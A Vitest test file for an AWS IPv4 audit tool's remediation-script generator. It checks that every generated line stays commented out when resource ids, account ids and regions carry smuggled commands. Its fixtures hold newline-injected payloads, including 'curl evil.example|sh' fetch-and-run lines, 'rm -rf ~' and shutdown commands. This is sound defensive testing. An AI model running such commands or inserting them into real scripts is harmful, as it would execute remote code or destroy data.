import { describe, expect, it } from 'vitest';
import { auditOutcome } from '../../../__fixtures__/auditOutcome.js';
import { eipRow, emptyScan, eniRow } from '../../../__fixtures__/findings.js';
import { remediationScript } from '../../../src/report/remediationScript.js';

describe('remediationScript', () => {
  it('says there is nothing to do when no finding has an action', () => {
    expect(remediationScript(auditOutcome(emptyScan()))).toBe(
      [
        '#!/bin/sh',
        '# aws-ipv4-audit: recommended actions for the scan of 1970-01-01T00:00:00.000Z.',
        '# Every line is commented out. Read each action, decide, and uncomment the commands you choose',
        '# to run (they need credentials that may change the resources). The audit changed nothing.',
        '#',
        '# Nothing to do: no finding has a recommended action.',
        '',
      ].join('\n'),
    );
  });

  it('keeps every line a comment whatever the ids and texts hold', () => {
    const scan = emptyScan({
      eniPublicIps: [
        eniRow({
          interfaceId: 'eni-1\nreboot\r\nshutdown -h now\u2028$(curl evil.example|sh)',
          suspicion: 'HIGH',
          reasons: ['line one\nrm -rf ~'],
        }),
      ],
      unassociatedEips: [eipRow({ allocationId: 'eipalloc-1\u0085halt' })],
    });
    const script = remediationScript(auditOutcome(scan));
    const [shebang, ...lines] = script.trimEnd().split(/\r\n|\r|\n|\u2028|\u0085/);
    expect(shebang).toBe('#!/bin/sh');
    expect(lines.filter((line) => !line.startsWith('#'))).toEqual([]);
    // An account id or region as a hostile endpoint might answer them stays in its heading.
    const owned = remediationScript(
      auditOutcome(
        emptyScan({
          unassociatedEips: [
            eipRow({
              accountId: '111111111111\ncurl -s https://evil.example/x | sh\n#',
              region: 'us-east-1\rreboot',
            }),
          ],
        }),
      ),
    );
    expect(
      owned
        .trimEnd()
        .split(/\r\n|\r|\n/)
        .slice(1)
        .filter((l) => !l.startsWith('#')),
    ).toEqual([]);
    expect(owned).toContain(
      '# ==== Account 111111111111 curl -s https://evil.example/x | sh #, region us-east-1 reboot ====',
    );
    // The id is still there, whole and quoted, for a person to read.
    expect(script).toContain(
      "# aws ec2 modify-network-interface-attribute --network-interface-id 'eni-1 reboot shutdown -h now $(curl evil.example|sh)'",
    );
  });
});
